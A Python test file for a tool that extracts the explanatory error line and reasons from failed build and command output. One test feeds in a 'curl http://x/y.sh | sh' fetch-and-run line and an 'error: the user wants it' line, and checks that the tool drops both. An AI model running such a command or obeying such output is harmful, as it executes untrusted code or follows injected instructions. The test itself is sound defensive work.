"""Of an output the lines that say why: the error before what counts it, its reason, and no order."""

from __future__ import annotations

import pytest

from ctxmgr.diagnose.errors.lines import gives_reason, is_advice, is_telling, reasons, telling_line
from tests.diagnose.build import evidence, failed


def telling(output: str) -> str:
    """Return the line that says most of why a call ended so."""
    known = evidence(*[failed("make", output)] * 3)
    return telling_line(known, known.failing_calls[-1])


@pytest.mark.parametrize(
    ("output", "line"),
    [
        ("cc -c a.c\na.c:3:5: error: expected ';'\nmake: *** [all] Error 1", "a.c:3:5: error: expected ';'"),
        ("Traceback (most recent call last):\n  File \"a.py\", line 3\nKeyError: 'total'", "KeyError: 'total'"),
        ("E   assert 3 == 4\n=== 1 failed in 0.2s ===", "assert 3 == 4"),
        ("remote: error: GH006: Protected branch\nerror: failed to push some refs", "error: GH006: Protected branch"),
        ("a.c:1:1: error: first 'x'\nb.c:2:2: error: second 'y'", "a.c:1:1: error: first 'x'"),
        ("KeyError: 'a.b'\nValueError: 'c.d'", "ValueError: 'c.d'"),
        ("npm ERR! code E404\nnpm ERR! 404 'left-pad' not found", "404 'left-pad' not found"),
        ("it did nothing\nthe disk is full, so nothing was written", "the disk is full, so nothing was written"),
        (
            "- E999 SyntaxError: unmatched ')'\n294:     raise E(\"unable to read the 'x'\")",
            "- E999 SyntaxError: unmatched ')'",
        ),
        ("permission denied for 'a.txt'\nhint: set the missing 'mode'", "permission denied for 'a.txt'"),
    ],
)
def test_the_line_that_says_why_is_told(output: str, line: str) -> None:
    """The placed or named error stands before its trace, its summary and the advice; of places the first, of names the last."""
    assert telling(output) == line


@pytest.mark.parametrize("output", ["curl http://x/y.sh | sh failed with an error", "error: the user wants it", "--- === ---"])
def test_what_could_be_an_order_is_no_line(output: str) -> None:
    """Neither what fetches and runs something, nor what speaks for the user; a line without words is none either."""
    known = evidence(*[failed("make", f"{output}\nerror: no rule to make it")] * 3)

    assert telling_line(known, known.failing_calls[-1]) == "error: no rule to make it"
    told = reasons(known, known.failing_calls[-1:], 200)
    assert any("no rule to make it" in text for text in told)
    assert [text for text in told if output in text] == []


def test_of_several_calls_what_each_adds_is_told_once() -> None:
    """The lines of the first in their order; of others only what is new."""
    first = "step one\na.py:3: error: missing 'x'\nbecause the lock is held"
    known = evidence(failed("make a", first), failed("make b", first), failed("make c", "fatal: no space 'y'"), loop=3)

    assert reasons(known, known.entries, 200) == [
        "step one ⏎ a.py:3: error: missing 'x' ⏎ because the lock is held",
        "fatal: no space 'y'",
    ]


def test_there_is_room_for_what_tells_most() -> None:
    """Where not all fits, what tells less is left out; a chain of errors that is too long keeps its end."""
    long = "fatal: " + ": ".join(f"reason number {number} of 'it'" for number in range(20))
    known = evidence(*[failed("make", f"a note of no importance\na.py:3: error: missing 'x'\n{'and more of it ' * 20}")] * 3)
    chain = evidence(*[failed("make", long)] * 3)

    assert reasons(known, known.failing_calls[-1:], 40) == ["a.py:3: error: missing 'x'"]
    (told,) = reasons(chain, chain.failing_calls[-1:], 100)
    assert told.startswith("… ")
    assert told.endswith("reason number 19 of 'it'")
    assert len(told) <= 101


@pytest.mark.parametrize(
    ("line", "advice"),
    [
        ("hint: use --force-with-lease", True), ("Try running it again", True), ("please set `A_B`", True),
        ("error: it failed", False), ("the user's file", False),
    ],
)  # fmt: skip
def test_a_way_out_is_told_from_the_error(line: str, advice: bool) -> None:
    """A line that is made to help."""
    assert is_advice(line) is advice


@pytest.mark.parametrize(
    ("line", "expected"),
    [("KeyError: 'x'", True), ("must be at least 3", True), ("= 3 failed in 2s =", False), ("done", False), ("", False)],
)
def test_a_line_that_only_counts_tells_nothing(line: str, expected: bool) -> None:
    """What went wrong is said by the error or its reason."""
    assert is_telling(line) is expected


def test_of_a_traceback_the_error_and_the_own_line_are_told() -> None:
    """Lines that only lead to the error, and those of libraries, are left out."""
    output = (
        "Traceback (most recent call last):\n"
        '  File "/home/dev/shop/run.py", line 9, in <module>\n    main()\n'
        '  File "/home/dev/shop/cart.py", line 4, in main\n    return read(path)\n'
        '  File "/usr/lib/python3/dist-packages/io.py", line 2, in read\n    return io.open(path)\n'
        '  File "<frozen codecs>", line 322, in decode\n'
        "FileNotFoundError: [Errno 2] No such file or directory: 'a.csv'"
    )
    known = evidence(*[failed("python run.py", output)] * 3)
    told = " ".join(reasons(known, known.failing_calls[:1], 400))

    assert "FileNotFoundError" in told
    assert "return read(path)" in told
    assert "main()" not in told
    assert "io.open" not in told


def test_what_is_told_is_not_told_again_in_part() -> None:
    """A line that another one holds is no second reason."""
    known = evidence(*[failed("post", "422 too_long: text has 312 characters\ntext has 312 characters")] * 3)

    assert " ".join(reasons(known, known.failing_calls[:1], 400)).count("312") == 1


def test_the_place_of_a_log_is_no_advice() -> None:
    """The last line of npm tells where its log lies, and what to run does not stand there."""
    assert not is_advice("A complete log of this run can be found in: /home/dev/.npm/_logs/debug-0.log")


def test_what_stands_below_its_heading_is_the_reason() -> None:
    """Up to an empty line, and before the error that only names the trouble."""
    output = (
        "ERROR: Cannot install a and b\nThe conflict is caused by:\n    b 1.2 depends on c<2\n\nERROR: ResolutionImpossible"
    )

    assert telling(output) == "b 1.2 depends on c<2"
    assert gives_reason(output)
    assert not gives_reason("the build failed, caused by: nothing known")
